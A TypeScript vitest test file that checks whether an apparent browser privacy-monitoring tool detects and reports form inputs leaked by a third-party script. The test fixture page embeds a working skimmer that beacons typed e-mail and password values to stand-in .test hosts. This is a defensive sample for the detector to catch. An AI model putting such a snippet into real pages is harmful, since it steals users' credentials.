import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ask, watch } from '../../demo/automation.ts';
import type { Browser } from '../../demo/browsers/browser.ts';
import { launch } from '../../demo/browsers/launch.ts';
import { type Sink, startSink } from '../../demo/sink.ts';
import type { Report } from '../../src/report/report.ts';
import { kind } from './kind.ts';

const app = 'https://app.fernhill.example';
const password = 'correct horse 12 battery';

/** A sign-up form, and a vendor's script that sends each input. */
const page = `<!doctype html><form>
  <input id="mail" name="work_email" type="email"><input id="secret" name="pw" type="password"><input id="note" name="note">
  <button id="go">Sign up</button></form><script>
  const send = (what, value) => navigator.sendBeacon('https://' + what + location.search.slice(1) + '.test/c', JSON.stringify({ v: value, w: btoa(value) }));
  mail.oninput = () => send('early', mail.value);
  secret.onchange = () => send('passwords', secret.value);
  document.forms[0].onsubmit = (event) => { event.preventDefault(); setTimeout(() => send('late', note.value), 300); };
</script>`;

describe(`form input in ${kind}`, () => {
  let sink: Sink;
  let browser: Browser;
  let report: Report;

  beforeAll(async () => {
    sink = await startSink({
      appFolder: '.',
      respond: ({ host }) =>
        host.endsWith('.fernhill.example') ? { headers: { 'content-type': 'text/html' }, body: page } : { status: 204 },
    });
    browser = await launch(kind, { sinkPort: sink.port });
    await watch(browser, [app]);
    await fillIn(app);
    report = await ask<Report>(browser, { type: 'report.create' });
  });
  afterAll(async () => {
    await browser?.close();
    await sink?.close();
  });

  const fillIn = async (address: string) => {
    const form = await browser.open(address);
    await form.fill('#mail', 'ada.byron@analytical.example');
    await form.fill('#secret', password);
    await form.fill('#note', 'Countess of Lovelace');
    await form.click('#go');
    await sink.quiet(800, 5000);
    await form.close();
  };
  const rule = 'form-value-before-submit';
  const findings = (vendor: string) =>
    report.findings.filter(
      (each) => (each.rule === rule || each.also?.includes(rule)) && each.vendor === `host:${vendor}.test`,
    );

  test('is a severe finding if it was sent before the form was submitted', () => {
    expect(findings('early')).toEqual([expect.objectContaining({ severity: 'high', app })]);
    expect(findings('early')[0]?.message).toMatch(
      /^E-mail address typed into .*work_email.* was sent to early\.test before it was submitted\.$/,
    );
  });

  test('is a finding if it was sent after the form was submitted', () => {
    expect(findings('late')).toEqual([expect.objectContaining({ severity: 'medium' })]);
  });

  test('of a password field is found by its digest, and the report does not contain it', () => {
    const sent = report.vendors.find(({ id }) => id === 'host:passwords.test');
    expect(sent?.disclosures.map(({ category }) => category)).toContain('password');
    expect(findings('passwords')).toHaveLength(1);
    expect(report.findings.map(({ rule }) => rule)).toContain('secret-sent');
    expect(JSON.stringify(report)).not.toContain(password);
  });

  test('is not remembered if the settings forbid it', async () => {
    await ask(browser, { type: 'settings.update', settings: { keep: { typedValues: false } } });
    await fillIn(`${app}/?-unremembered`);
    report = await ask<Report>(browser, { type: 'report.create' });
    const categoriesOf = (vendor: string) =>
      report.vendors.find(({ id }) => id === `host:${vendor}.test`)?.disclosures.map(({ category }) => category);
    expect(['early', 'late', 'passwords'].map((vendor) => findings(vendor))).toEqual([
      [expect.anything()],
      [expect.anything()],
      [expect.anything()],
    ]);
    expect(['early', 'late', 'passwords'].flatMap((vendor) => findings(`${vendor}-unremembered`))).toEqual([]);
    expect(categoriesOf('early-unremembered')).toContain('email');
    expect(categoriesOf('passwords-unremembered')).not.toContain('password');
  });
});
